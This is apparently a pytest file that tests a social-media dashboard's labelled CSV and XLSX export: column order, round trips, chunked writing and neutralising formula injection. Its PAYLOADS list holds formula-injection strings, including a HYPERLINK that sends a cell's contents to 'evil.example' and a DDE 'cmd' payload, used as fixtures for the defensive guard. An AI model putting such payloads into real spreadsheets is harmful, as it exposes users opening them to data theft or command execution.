"""Labelled download: columns and order, CSV round trip, formula-injection guard in CSV and XLSX."""

from __future__ import annotations

import io
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest

from socialdash.services.errors import PipelineError
from socialdash.services.export import (
    EXCEL_MAX_ROWS,
    FORMULA_TRIGGERS,
    csv_safe_frame,
    flatten_report,
    labelled_frame,
    to_csv_bytes,
    to_xlsx_bytes,
    write_csv,
)

BOM = b"\xef\xbb\xbf"
LIVE_DROPPED = [
    {"column": f"Column{i}", "position": 11 + i, "reason": "empty"} for i in range(1, 5)
]  # as ingest reports Live.csv's four empty trailing columns
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "-1+2",
    "+33 6 12 34 56 78",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "-",
]


def _live_ingested(data_dir: Path) -> pd.DataFrame:
    """Live.csv the way ingest hands it over: empty columns dropped, datetime parsed, text as strings."""
    df = pd.read_csv(data_dir / "Live.csv", dtype={"status_id": "str", "status_type": "str"})
    df = df.drop(columns=["Column1", "Column2", "Column3", "Column4"])
    df["status_published"] = pd.to_datetime(df["status_published"], format="%m/%d/%Y %H:%M").astype(
        "datetime64[ns]"
    )
    return df


def _labels(n: int, k: int = 3) -> tuple[np.ndarray, np.ndarray, dict[int, str]]:
    labels = (np.arange(n) % k) + 1
    split = np.where(np.arange(n) % 5 == 0, "test", "train")
    names = {1: "High-comment videos", 2: "Quiet photos", 3: "Viral shares links"}
    return labels, split, {c: names[c] for c in range(1, k + 1)}


def _read_back(csv: bytes, **kwargs) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(csv), encoding="utf-8-sig", **kwargs)


# -- labelled_frame ----------------------------------------------------------------------------------------
def test_labelled_frame_restores_dropped_columns_and_adds_labels(data_dir: Path) -> None:
    df = _live_ingested(data_dir)
    labels, split, names = _labels(len(df))
    before = list(df.columns)
    out = labelled_frame(df, labels, split, names, LIVE_DROPPED)
    assert list(df.columns) == before, "the caller's frame gets no columns"
    original_header = (data_dir / "Live.csv").read_text().splitlines()[0].split(",")
    assert list(out.columns) == [*original_header, "cluster", "cluster_name", "split"]
    assert len(out) == 7050
    assert out["cluster"].dtype == "int64"
    assert sorted(out["cluster"].unique()) == [1, 2, 3]
    assert out.loc[1, "cluster_name"] == "Quiet photos"
    assert set(out["split"]) == {"train", "test"}
    assert out[["Column1", "Column4"]].isna().all().all()
    pd.testing.assert_frame_equal(out[df.columns], df)


def test_labelled_frame_puts_a_dropped_middle_column_back_in_place() -> None:
    df = pd.DataFrame({"id": ["a", "b"], "likes": [1, 2], "shares": [3, 4]})
    dropped = [
        {"column": "Notes", "position": 1, "reason": "empty"},
        {"column": "Extra", "position": 3, "reason": "empty"},
        {"column": "Junk", "position": 0, "reason": "duplicate"},  # only empty columns come back
    ]
    out = labelled_frame(df, np.array([2, 1]), np.array(["train", "test"]), {1: "One", 2: "Two"}, dropped)
    assert list(out.columns) == [
        "id",
        "Notes",
        "likes",
        "Extra",
        "shares",
        "cluster",
        "cluster_name",
        "split",
    ]
    assert out["cluster_name"].tolist() == ["Two", "One"]


def test_labelled_frame_keeps_a_users_own_cluster_column() -> None:
    df = pd.DataFrame({"cluster": ["old A", "old B"], "split": ["x", "y"]}, index=[10, 20])
    out = labelled_frame(df, np.array([1, 1]), np.array(["train", "train"]), {1: "Everything"})
    assert list(out.columns) == ["cluster (original)", "split (original)", "cluster", "cluster_name", "split"]
    assert out["cluster (original)"].tolist() == ["old A", "old B"]
    assert out["cluster"].tolist() == [1, 1]
    assert list(out.index) == [0, 1]


def test_labelled_frame_rejects_misaligned_labels() -> None:
    with pytest.raises(ValueError, match="one entry per row"):
        labelled_frame(pd.DataFrame({"a": [1, 2]}), np.array([1]), np.array(["train", "test"]), {1: "x"})


# -- CSV ---------------------------------------------------------------------------------------------------
def test_csv_round_trip_of_live_export(data_dir: Path) -> None:
    df = _live_ingested(data_dir)
    labels, split, names = _labels(len(df))
    out = labelled_frame(df, labels, split, names, LIVE_DROPPED)
    csv = to_csv_bytes(out)
    assert csv.startswith(BOM)
    assert (
        csv[3:]
        .decode("utf-8")
        .splitlines()[1]
        .startswith(
            "246675545449582_1649696485147474,video,2018-04-22 06:00:00,529,512,262,432,92,3,1,1,0,,,,,1,"
        )
    )
    back = _read_back(csv, parse_dates=["status_published"])
    assert list(back.columns) == list(out.columns)
    for col in ["num_reactions", "num_comments", "num_angrys", "cluster"]:
        assert back[col].dtype == "int64"
    expected = out.copy()
    for col in ["Column1", "Column2", "Column3", "Column4"]:
        expected[col] = np.nan  # an empty column reads back as missing numbers
    pd.testing.assert_frame_equal(back, expected, check_dtype=False)


def test_csv_neutralises_formula_cells_and_headers_but_not_numbers() -> None:
    n = len(PAYLOADS)
    df = pd.DataFrame(
        {
            "=1+1": pd.array(PAYLOADS, dtype="str"),
            "message": pd.array([*PAYLOADS[:-1], None], dtype="string"),
            "safe text": pd.array(["plain", "a=b", "1-2", "x@y", "' quoted", "", "née", "📦"], dtype="str"),
            "change": np.arange(n) - 5,  # negative numbers stay numbers
            "rate": np.linspace(-1.5, 2.0, n),
            "raw": pd.Series([*PAYLOADS[:-1], 7], dtype=object),
            "kind": pd.Categorical(["=video", "photo"] * (n // 2)),
        }
    )
    csv = to_csv_bytes(df)
    back = _read_back(csv, keep_default_na=False, na_values=[""])
    assert list(back.columns) == ["'=1+1", "message", "safe text", "change", "rate", "raw", "kind"]
    assert back["'=1+1"].tolist() == ["'" + p for p in PAYLOADS]
    assert back["message"].tolist()[:-1] == ["'" + p for p in PAYLOADS[:-1]]
    assert pd.isna(back["message"].iloc[-1])
    assert back["safe text"].fillna("").tolist() == [
        "plain",
        "a=b",
        "1-2",
        "x@y",
        "' quoted",
        "",
        "née",
        "📦",
    ]
    assert back["change"].tolist() == list(range(-5, n - 5))
    assert back["change"].dtype == "int64"
    np.testing.assert_allclose(back["rate"], df["rate"])
    assert back["raw"].tolist()[:-1] == ["'" + p for p in PAYLOADS[:-1]]
    assert back["kind"].tolist() == ["'=video", "photo"] * (n // 2)
    for col in back.columns:
        for value in back[col]:
            assert not (isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)), (col, value)
    assert df["=1+1"].tolist() == PAYLOADS, "the caller's frame is not modified"


def test_csv_keeps_line_breaks_inside_text_cells() -> None:
    df = pd.DataFrame({"text": ["line one\rline two", "a\nb", "c\r\nd"], "likes": [1, 2, 3]})
    back = _read_back(to_csv_bytes(df))
    assert back["text"].tolist() == df["text"].tolist()
    assert back["likes"].tolist() == [1, 2, 3]


def test_csv_writes_datetimes_as_iso_seconds() -> None:
    df = pd.DataFrame(
        {
            "midnight": pd.to_datetime(["2020-01-01", "2020-01-02", None]).astype("datetime64[ns]"),
            "fraction": pd.to_datetime(
                ["2020-01-01 10:00:00.250", "2020-01-02 23:59:59", None], format="ISO8601"
            ).astype("datetime64[ns]"),
            "utc": pd.to_datetime(["2018-09-28 21:57 +0200", "2018-09-29 00:00 +0200", None], utc=True),
            "plain": pd.to_datetime(["2016-09-10 10:30", "2012-07-15 00:00", "2018-06-13 05:04"]).astype(
                "datetime64[ns]"
            ),
        }
    )
    back = _read_back(to_csv_bytes(df), dtype="str", keep_default_na=False)
    assert back["midnight"].tolist() == ["2020-01-01 00:00:00", "2020-01-02 00:00:00", ""]
    assert back["fraction"].tolist() == ["2020-01-01 10:00:00", "2020-01-02 23:59:59", ""]
    assert back["utc"].tolist() == ["2018-09-28 19:57:00", "2018-09-28 22:00:00", ""]
    assert back["plain"].tolist() == ["2016-09-10 10:30:00", "2012-07-15 00:00:00", "2018-06-13 05:04:00"]


def test_csv_of_a_frame_without_text_is_plain_pandas_output_with_bom() -> None:
    df = pd.DataFrame({"likes": [1, -2, 3], "rate": [0.5, np.nan, -0.25]})
    assert to_csv_bytes(df) == BOM + df.to_csv(index=False, lineterminator="\r\n").encode()


def _whole_frame_csv(df: pd.DataFrame) -> bytes:
    """The download as one to_csv call over the whole safe frame (how it was written before chunking)."""
    buf = io.BytesIO()
    csv_safe_frame(df).to_csv(buf, index=False, encoding="utf-8-sig", lineterminator="\r\n")
    return buf.getvalue()


def _chunked_csv(df: pd.DataFrame, tmp_path: Path, chunk_rows: int) -> bytes:
    path = tmp_path / f"chunked-{chunk_rows}.csv"
    with open(path, "wb") as fh:
        write_csv(df, fh, chunk_rows=chunk_rows)
    return path.read_bytes()


def _mixed_frame() -> pd.DataFrame:
    """Rows in blocks of three: every chunk of 3 rows is all-midnight, plain, all-missing or formula-like."""
    stamps = ["2020-01-01", "2020-01-02", "2020-01-03"]  # a chunk of only midnights
    stamps += ["2020-01-04 10:30", "2020-01-05 23:59:59", "2020-01-06 00:00"]
    stamps += [None, None, None]  # a chunk of only missing dates
    stamps += ["2020-01-07 10:00:00.250", "2020-01-08 08:00", None]  # fractions of a second
    n = len(stamps)
    published = pd.to_datetime(stamps, format="ISO8601").astype("datetime64[ns]")
    return pd.DataFrame(
        {
            "@id": pd.array([f"p{i}" for i in range(n)], dtype="str"),
            "published": published,
            "published_utc": published.tz_localize("Europe/Paris"),
            "message": pd.array(["plain", "a\r\nb", "x,y"] * 3 + [PAYLOADS[0], None, "-"], dtype="str"),
            "raw": pd.Series([1, "=2", None] * 4, dtype=object),
            "kind": pd.Categorical(["photo"] * 6 + ["=video"] * 3 + ["link"] * 3),
            "likes": pd.array([1, -2, None] * 4, dtype="Int64"),
            "rate": [0.1, np.nan, -1e-20, 1 / 3] * 3,
            "flag": [True, False, True] * 4,
        }
    )


@pytest.mark.parametrize("chunk_rows", [1, 2, 3, 5, 100])
def test_csv_written_in_chunks_has_the_bytes_of_the_whole_frame(chunk_rows: int, tmp_path: Path) -> None:
    df = _mixed_frame()
    whole = _whole_frame_csv(df)
    assert whole.startswith(BOM) and whole.count(BOM) == 1
    assert _chunked_csv(df, tmp_path, chunk_rows) == whole
    assert to_csv_bytes(df) == whole
    assert _chunked_csv(df.iloc[:0], tmp_path, chunk_rows) == _whole_frame_csv(df.iloc[:0])  # header only


def test_chunked_csv_of_the_live_export_has_the_bytes_of_the_whole_frame(
    data_dir: Path, tmp_path: Path
) -> None:
    df = _live_ingested(data_dir)
    labels, split, names = _labels(len(df))
    out = labelled_frame(df, labels, split, names, LIVE_DROPPED)
    whole = _whole_frame_csv(out)
    for chunk_rows in (999, 100_000):
        assert _chunked_csv(out, tmp_path, chunk_rows) == whole


# -- XLSX --------------------------------------------------------------------------------------------------
def test_xlsx_holds_posts_and_report_without_formulas(data_dir: Path) -> None:
    df = _live_ingested(data_dir).head(200).copy()
    df["message"] = pd.array([PAYLOADS[i % len(PAYLOADS)] for i in range(len(df))], dtype="str")
    df = df.rename(columns={"num_shares": "=num_shares"})
    labels, split, names = _labels(len(df))
    names[2] = "=2+2"
    out = labelled_frame(df, labels, split, names, LIVE_DROPPED)
    report = {
        "k": 3,
        "k_reason": "You chose k = 3.",
        "metrics": {"train": {"silhouette": 0.41}, "test": {"silhouette": 0.39}},
        "clusters": [{"name": "=evil()", "size": 67}],
        "notes": [],
        "ingest": None,
    }
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(out, report)))
    assert wb.sheetnames == ["posts", "report"]
    posts = wb["posts"]
    rows = list(posts.iter_rows(values_only=True))
    assert list(rows[0]) == list(out.columns)
    assert len(rows) == len(out) + 1
    for row in posts.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["status_id"] == "246675545449582_1649696485147474"
    assert first["num_reactions"] == 529
    assert first["status_published"].isoformat() == "2018-04-22T06:00:00"
    assert first["message"] == PAYLOADS[0]  # kept exactly: a string cell is never run as a formula
    assert first["Column1"] is None
    assert first["cluster"] == 1
    second = dict(zip(rows[0], rows[2], strict=True))
    assert second["cluster_name"] == "=2+2"
    msg_col = list(out.columns).index("message") + 1
    assert posts.cell(row=2, column=msg_col).quotePrefix
    assert posts.cell(row=1, column=list(out.columns).index("=num_shares") + 1).quotePrefix
    kv = dict(wb["report"].iter_rows(min_row=2, values_only=True))
    assert kv["k"] == 3
    assert kv["metrics.test.silhouette"] == pytest.approx(0.39)
    assert kv["clusters.1.name"] == "=evil()"
    assert "ingest" in kv


def test_xlsx_without_report_has_one_sheet() -> None:
    df = pd.DataFrame({"likes": [1, np.nan, np.inf], "name": pd.array(["a", "b", None], dtype="str")})
    wb = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(df)))
    assert wb.sheetnames == ["posts"]
    assert list(wb["posts"].iter_rows(values_only=True)) == [("likes", "name"), (1, "a"), (None, "b")]


def test_xlsx_refuses_more_rows_than_excel_holds() -> None:
    df = pd.DataFrame({"likes": np.zeros(EXCEL_MAX_ROWS, dtype="int8")})  # + header = one row too many
    with pytest.raises(PipelineError, match="download the CSV"):
        to_xlsx_bytes(df)


def test_flatten_report_numbers_list_items_from_one() -> None:
    assert flatten_report({"a": {"b": [10, {"c": "x"}]}, "d": [], "e": None}) == [
        ("a.b.1", 10),
        ("a.b.2.c", "x"),
        ("d", ""),
        ("e", None),
    ]
